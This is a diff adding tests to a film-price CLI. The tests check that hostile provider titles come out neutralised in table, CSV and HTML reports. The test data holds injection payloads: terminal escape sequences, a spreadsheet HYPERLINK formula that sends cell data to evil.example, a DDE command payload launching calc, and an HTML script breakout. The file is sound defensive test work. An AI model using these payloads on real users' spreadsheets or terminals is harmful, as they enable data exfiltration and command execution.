@@ -13,7 +13,7 @@ import { runPartition } from '../src/store/layout.js';
 import { writeParquetFile } from '../src/store/parquet-file.js';
 import { MOVIES_SCHEMA, REJECTS_SCHEMA } from '../src/store/schema.js';
 import { hasStackTrace, runCli, tempDir, type CliResult } from './helpers.js';
-import { startScripted, type ScriptedProvider } from './scripted-provider.js';
+import { startScripted } from './scripted-provider.js';
 
 const FORMATS = ['table', 'json', 'csv'] as const;
 
@@ -209,4 +209,117 @@ test('current prices: a film a provider stopped listing is no longer its price; 
   // A --film filter does not change which poll is current.
   assert.deepEqual(prices(await json(dir, ['--film', 'film b'])), {});
   assert.deepEqual(prices(await json(dir, ['--provider', 'cinemaworld'])), { 'Film A': { cinemaworld: 12 } });
+});
+
+// ---- item 12: provider text never drives the terminal or the spreadsheet --------------------
+
+/** Titles a hostile provider could send: terminal escapes (CSI, OSC title/hyperlink, BEL, C1
+ * CSI), a newline and CR, bidi override, and spreadsheet formulas. */
+const HOSTILE_TITLES = [
+  'Red \u001b[31mAlert\u001b[0m',
+  'Retitle \u001b]0;pwned\u0007 me',
+  'Link \u001b]8;;http://evil.example/\u001b\\click\u001b]8;;\u001b\\',
+  'Two\nLines\r\nFilm',
+  'C1 \u009b2J clear',
+  'Bidi \u202eevil\u202c',
+  '=HYPERLINK("http://evil.example/?"&A1,"x")',
+  '+1+cmd|\' /C calc\'!A0',
+  '-2+3',
+  '@SUM(A1:A2)',
+  'Semi;=1+2',
+  '</script><b>bold</b>',
+];
+const ids = (prefix: string) => HOSTILE_TITLES.map((title, i) => ({ id: `${prefix}${String(i + 1).padStart(7, '0')}`, title, price: `${i + 1}` }));
+
+test('hostile titles: the table shows control characters as escapes, one row per film; CSV cells are neutralised; JSON is exact; HTML escapes', async (t) => {
+  const provider = await startScripted();
+  t.after(() => provider.close());
+  provider.serve({ cinemaworld: ids('cw'), filmworld: ids('fw') });
+  const dir = path.join(tempDir(t), 'data');
+  const poll = await runCli(['poll', '--data-dir', dir], { env: { API_TOKEN: provider.token, PROVIDER_BASE_URL: provider.url } });
+  assert.equal(poll.code, 0, poll.stdout + poll.stderr);
+
+  const r = await json(dir);
+  assert.deepEqual(r.best_prices.map((f) => f.title).sort(), HOSTILE_TITLES.map((x) => x.trim()).sort(), 'JSON keeps titles exact');
+
+  const table = await report(dir, 'table', ['--section', 'best-prices']);
+  assert.equal(table.code, 0, table.stderr);
+  // eslint-disable-next-line no-control-regex -- looking for control characters is the point
+  const controls = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/u;
+  assert.doesNotMatch(table.stdout, controls, 'no control character but newline reaches the terminal');
+  const [bestPrices = ''] = table.stdout.split('\n\n');
+  assert.equal(bestPrices.split('\n').length, 2 + HOSTILE_TITLES.length, 'title, header, one line per film');
+  assert.match(table.stdout, /^Red \\u\{1b\}\[31mAlert/m);
+  for (const line of table.stdout.split('\n')) assert.ok([...line].length <= 80, `too wide: ${line}`);
+  const history = await report(dir, 'table', ['--section', 'history']);
+  assert.doesNotMatch(history.stdout, controls);
+  assert.equal(history.stdout.trim().split('\n').length, 2 + 2 * HOSTILE_TITLES.length);
+
+  for (const section of ['best-prices', 'history', 'cheapest'] as const) {
+    const csv = await report(dir, 'csv', ['--section', section]);
+    assert.equal(csv.code, 0, csv.stderr);
+    const rows = parseCsv(csv.stdout);
+    const width = rows[0]?.length;
+    for (const row of rows) {
+      assert.equal(row.length, width, `${section}: ${JSON.stringify(row)}`);
+      for (const cell of row) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `${section}: a cell a spreadsheet would run: ${cell}`);
+    }
+    const titles = section === 'cheapest' ? [] : rows.slice(1).map((row) => row[0] ?? '');
+    for (const title of titles) {
+      const original = title.replace(/^'(?=[=+\-@\t\r])/, '').replace(/ \(2001\)$/, '');
+      assert.ok(HOSTILE_TITLES.includes(original), `${section}: CSV keeps the text, only prefixed: ${JSON.stringify(title)}`);
+    }
+  }
+  const best = parseCsv((await report(dir, 'csv')).stdout);
+  assert.ok(best.some((row) => row[0] === '\'=HYPERLINK("http://evil.example/?"&A1,"x") (2001)'));
+  assert.ok(best.some((row) => row[0] === '\'-2+3 (2001)'));
+  assert.ok(best.some((row) => row[0] === 'Two\nLines\r\nFilm (2001)'), 'a newline stays inside its quoted cell');
+
+  const page = path.join(tempDir(t), 'report.html');
+  assert.equal((await runCli(['report', '--data-dir', dir, '--html', page])).code, 0);
+  const html = readFileSync(page, 'utf8');
+  assert.ok(!html.includes('<b>bold</b>') && html.includes('&#60;/script&#62;&#60;b&#62;bold'), 'HTML escapes titles');
+});
+
+/** RFC 4180 parser for the test (quoted cells may hold commas, quotes and line breaks). */
+function parseCsv(text: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let cell = '';
+  let quoted = false;
+  const endCell = () => {
+    row.push(cell);
+    cell = '';
+  };
+  for (let i = 0; i < text.length; i++) {
+    const c = text[i];
+    if (quoted && c === '"' && text[i + 1] === '"') {
+      cell += '"';
+      i++;
+    } else if (quoted && c === '"') quoted = false;
+    else if (quoted) cell += c;
+    else if (c === '"' && cell === '') quoted = true;
+    else if (c === ',') endCell();
+    else if (c === '\n') {
+      endCell();
+      rows.push(row);
+      row = [];
+    } else cell += c;
+  }
+  if (cell !== '' || row.length > 0) {
+    endCell();
+    rows.push(row);
+  }
+  return rows;
+}
+
+test('csvCell and terminalText, cell by cell (tab and CR prefixes cannot come through a poll: titles are trimmed)', () => {
+  assert.equal(csvCell('\t=1+2'), '"\'\t=1+2"');
+  assert.equal(csvCell('\r=1+2'), '"\'\r=1+2"');
+  assert.equal(csvCell('-'), '\'-');
+  assert.equal(csvCell('plain'), 'plain');
+  assert.equal(csvCell('a,b'), '"a,b"');
+  assert.equal(csvCell('say "hi"'), '"say ""hi"""');
+  assert.equal(terminalText('a\tb\u0000c\u007f\u0085'), 'a\\u{9}b\\u{0}c\\u{7f}\\u{85}');
+  assert.equal(terminalText('Ünïcödé 🎬 ok'), 'Ünïcödé 🎬 ok');
 });
